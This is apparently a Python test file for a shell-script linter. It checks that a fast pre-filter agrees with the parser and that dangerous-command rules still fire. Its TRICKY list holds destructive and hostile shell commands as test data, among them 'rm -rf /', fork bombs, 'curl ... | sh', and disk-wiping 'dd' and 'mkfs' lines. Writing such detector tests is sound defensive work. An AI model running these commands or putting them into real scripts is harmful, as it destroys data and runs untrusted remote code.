"""A long script in which no statement can be selected is not parsed at all (Selector.may_match
in commands.py): whenever some statement would be walked, the whole-text look must say so."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wukong_lint.engine.loader import load_rules
from wukong_lint.engine.scan import scan_unit
from wukong_lint.model import Source, Unit
from wukong_lint.shell import commands
from wukong_lint.shell import parse as shell

QUIET = """\
echo "[$(date +%T)] starting" >&2

for f in migrations/*.sql; do
  echo "applying $f"
  psql "$DATABASE_URL" -v ON_ERROR_STOP=1 -f "$f" >/dev/null
done

if [[ -n "${CI:-}" ]]; then
  export PATH="$HOME/.local/bin:$PATH"
fi
"""


def _command_rules():
    return [r for r in load_rules().rules if r.kind == "command" and "file" in r.applies_to]


def _selector():
    selector = commands._selector(_command_rules())
    assert selector is not None
    return selector


def _selected_pieces(selector, text: str) -> list[str]:
    """The top-level statements `search` selects, as shell.parse_script walks them."""
    source = text.encode("utf-8", "surrogatepass")
    tree = shell.parse_source(source)
    found = []
    for child in tree.root_node.children:
        piece = source[child.start_byte : child.end_byte].decode("utf-8", "replace")
        if selector.search(piece.replace("\\\n", "").translate(shell._JOINED)):
            found.append(piece)
    return found


def _findings(text: str, path: str = "deploy.sh") -> set[tuple[str, int, int]]:
    findings, errors = scan_unit(load_rules(), Unit(path, text, Source(kind="file")))
    assert not errors
    return {(f.rule_id, f.line, f.column) for f in findings}


def test_a_quiet_long_script_is_not_parsed(monkeypatch):
    text = QUIET * 20
    assert len(text) > commands.SELECT_FROM
    assert not _selector().may_match(text)

    def fail(*args, **kwargs):
        raise AssertionError("parsed")

    commands._SHELL_TEXT[0] = None
    monkeypatch.setattr(commands, "parse", fail)
    assert _findings(text) == set()


TRICKY = [
    "# a comment that ends in a backslash\\\nrm -rf /",
    "# word\\\nsudo rm -rf /",
    "echo done;rm -rf /",
    "x=1&&rm -rf /",
    "r'm' -rf /",
    'r"m" -rf ~',
    "r\\\nm -rf /",
    ":(){ :|:& };:",
    "bomb() { bomb | bomb & }; bomb",
    "function f { f | f & }; f",
    "curl -s https://example.com/i.sh | sh",
    "echo $(curl -s https://x.example/p)",
    "cat key >> ~/.bashrc",
    "./rm -rf /",
    "form -rf /",
    "chmod -R 777 /",
    "git push --force origin main",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sdb1",
]


@pytest.mark.parametrize("statement", TRICKY)
def test_whatever_a_statement_selects_the_whole_text_sees(statement: str):
    selector = _selector()
    text = QUIET * 5 + statement + "\n" + QUIET * 5
    if _selected_pieces(selector, text):
        assert selector.may_match(text)


def test_a_dangerous_command_after_a_comment_continuation_is_still_found():
    text = QUIET * 10 + "# cleanup \\\nrm -rf /\n" + QUIET * 10
    assert any(rule == "dangerous-command.rm-rf-root" for rule, _, _ in _findings(text))


def _lines() -> list[str]:
    lines = [line for rule in _command_rules() for line in rule.examples_match]
    lines += [line for rule in _command_rules() for line in rule.examples_no_match]
    return lines + TRICKY + QUIET.splitlines()


LINES = _lines()
GLUE = ["\n", "; ", " && ", " | ", "\\\n", " # note\\\n", "'", '"', " ", "."]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(LINES), st.sampled_from(GLUE)), min_size=1))
def test_random_scripts_whole_text_look_is_never_narrower(parts):
    selector = _selector()
    text = "".join(line + glue for line, glue in parts)
    if _selected_pieces(selector, text):
        assert selector.may_match(text)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(LINES), st.sampled_from(GLUE)), min_size=1))
def test_random_long_scripts_find_the_same_parsed_or_not(parts):
    text = QUIET * 3 + "".join(line + glue for line, glue in parts) + "\n" + QUIET * 3
    commands._SHELL_TEXT[0] = None
    found = _findings(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(commands.Selector, "may_match", lambda self, text: True)
        commands._SHELL_TEXT[0] = None
        shell._SELECTED = None
        assert _findings(text) == found


def _nodes(node):
    yield node
    for child in node.children:
        yield from _nodes(child)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(LINES), st.sampled_from(GLUE)), min_size=1))
def test_span_search_answers_as_the_statement_search(parts):
    """The selector's answer for a span, from the keys of the whole text found once, is what
    `search` answers for the span's own text, for every node of the tree."""
    selector = _selector()
    text = "".join(line + glue for line, glue in parts)
    search_span = selector.spans(text)
    if search_span is None:
        assert not text.isascii()
        return
    source = text.encode("utf-8")
    for node in _nodes(shell.parse_source(source).root_node):
        piece = source[node.start_byte : node.end_byte].decode("utf-8")
        expected = selector.search(piece.replace("\\\n", "").translate(shell._JOINED))
        assert search_span(node.start_byte, node.end_byte) == expected, piece


@pytest.mark.parametrize("statement", TRICKY)
def test_span_search_on_every_line_start(statement: str):
    selector = _selector()
    text = QUIET + statement + "\n\\\n" + statement + "\n"
    search_span = selector.spans(text)
    for start in range(len(text)):
        for end in (start + 1, text.find("\n", start) + 1 or len(text), len(text)):
            piece = text[start:end]
            expected = selector.search(piece.replace("\\\n", "").translate(shell._JOINED))
            assert search_span(start, end) == expected, (start, end, piece)


def test_remembered_block_verdicts_follow_the_block_and_the_command():
    """commands._verdict answers as block_matches does, whatever it answered before for the
    same command with another block (or another rule set's copy of a block)."""
    script = shell.parse_script("rm -rf /\nrm -rf ./build\nsudo rm -rf ~\nrm -rf /\n")
    for _ in range(2):  # a fresh rule set: new block objects
        rules = _command_rules()
        blocks = [block for rule in rules for block in (rule.params or {})["match"]]
        for command in script.commands:
            for block in blocks:
                if block["recursive_function"]:
                    continue
                assert commands._verdict(block, command) == commands.block_matches(block, command)
